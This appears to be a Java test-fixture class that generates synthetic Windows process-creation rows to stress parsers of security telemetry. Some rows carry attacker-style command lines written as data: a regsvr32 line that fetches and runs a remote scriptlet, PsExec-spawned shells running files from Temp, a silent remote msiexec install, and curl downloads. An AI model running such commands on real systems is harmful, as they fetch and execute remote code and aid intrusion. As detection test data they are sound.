package karst.sample;

import static karst.sample.ProcessColumn.ACTION;
import static karst.sample.ProcessColumn.DEST;
import static karst.sample.ProcessColumn.ORIGINAL_FILE_NAME;
import static karst.sample.ProcessColumn.PROCESS;
import static karst.sample.ProcessColumn.PROCESS_ID;
import static karst.sample.ProcessColumn.PROCESS_PATH;
import static karst.sample.ProcessColumn.VENDOR_PRODUCT;
import static karst.sample.SampleTime.at;

/** Rows that real tables have and that break careless readers, none of them about wermgr.exe. */
record Oddities(Machine machine, String user) {
  /** Plays all of them. */
  void play() {
    RunningProcess explorer =
        machine.running(Programs.EXPLORER, "C:\\Windows\\Explorer.EXE", user, "Medium");
    RunningProcess services =
        machine.running(
            Programs.SERVICES, "C:\\Windows\\system32\\services.exe", "SYSTEM", "System");
    shellsElsewhere(explorer, services);
    downloads(explorer);
    numbers(explorer);
    absences(explorer);
  }

  private void shellsElsewhere(RunningProcess explorer, RunningProcess services) {
    machine.start(
        at(0, 13, 0, 0, 0), explorer, Programs.CMD, "\"C:\\Windows\\system32\\cmd.exe\" ");
    machine.start(
        at(0, 13, 0, 0, 0), explorer, Programs.POWERSHELL, Programs.POWERSHELL.quotedPath());
    machine.start(
        at(1, 2, 30, 0, 1), services, Programs.REMOTE_SERVICE, "C:\\Windows\\PSEXESVC.exe");
    machine.start(
        at(1, 2, 30, 1, 500), services, Programs.CMD, "%COMSPEC% /C start /b C:\\Windows\\Temp\\x");
    machine.start(
        at(2, 3, 15, 0, 999), services, Programs.UPDATER, "C:\\Windows\\Temp\\upd4711.exe");
    machine.start(
        at(2, 9, 5, 0, 0),
        explorer,
        Programs.WSCRIPT,
        "wscript.exe //B \"C:\\Users\\" + user + "\\AppData\\Local\\Temp\\ä ö ü.vbs\"");
  }

  private void downloads(RunningProcess explorer) {
    machine.start(
        at(0, 15, 20, 0, 250),
        explorer,
        Programs.REGSVR32,
        "regsvr32 /s /n /u /i:http://198.51.100.7:8080/f.sct scrobj.dll");
    machine.start(
        at(1, 15, 20, 0, 250),
        explorer,
        Programs.MSIEXEC,
        "MSIEXEC.EXE /q /i HTTPS://Download.Example.ORG/setup.msi,TRANSFORMS=a.mst");
    machine.start(
        at(2, 15, 20, 0, 250),
        explorer,
        Programs.CURL,
        "curl.exe -o \"C:\\Users\\Public\\a \"\"b\"\".txt\" http://[2001:db8::17]/a,b?c=\"d\"");
  }

  private void numbers(RunningProcess explorer) {
    for (String id : new String[] {"999", "1000", "01000", "1000.0", "1e3", "0x3e8"}) {
      machine.start(at(1, 16, 40, 0, 0), explorer, Programs.PING, "ping -n 1 203.0.113.9");
      machine.correctLatest(machine.latest().with(PROCESS_ID, id));
    }
  }

  private void absences(RunningProcess explorer) {
    machine.start(at(2, 16, 0, 0, 0), explorer, Programs.NOTEPAD, "notepad.exe");
    machine.correctLatest(machine.latest().without(PROCESS_PATH, ACTION, VENDOR_PRODUCT));
    machine.start(at(2, 16, 0, 1, 0), explorer, Programs.NOTEPAD, "notepad.exe \\* ?.txt");
    machine.correctLatest(machine.latest().without(DEST));
    machine.start(at(2, 16, 0, 2, 0), explorer, Programs.NOTEPAD, "\" leading and trailing \" ");
    machine.correctLatest(machine.latest().with(ORIGINAL_FILE_NAME, "-"));
    machine.start(at(2, 16, 0, 3, 0), explorer, Programs.NOTEPAD, "");
    machine.correctLatest(machine.latest().without(PROCESS));
  }
}
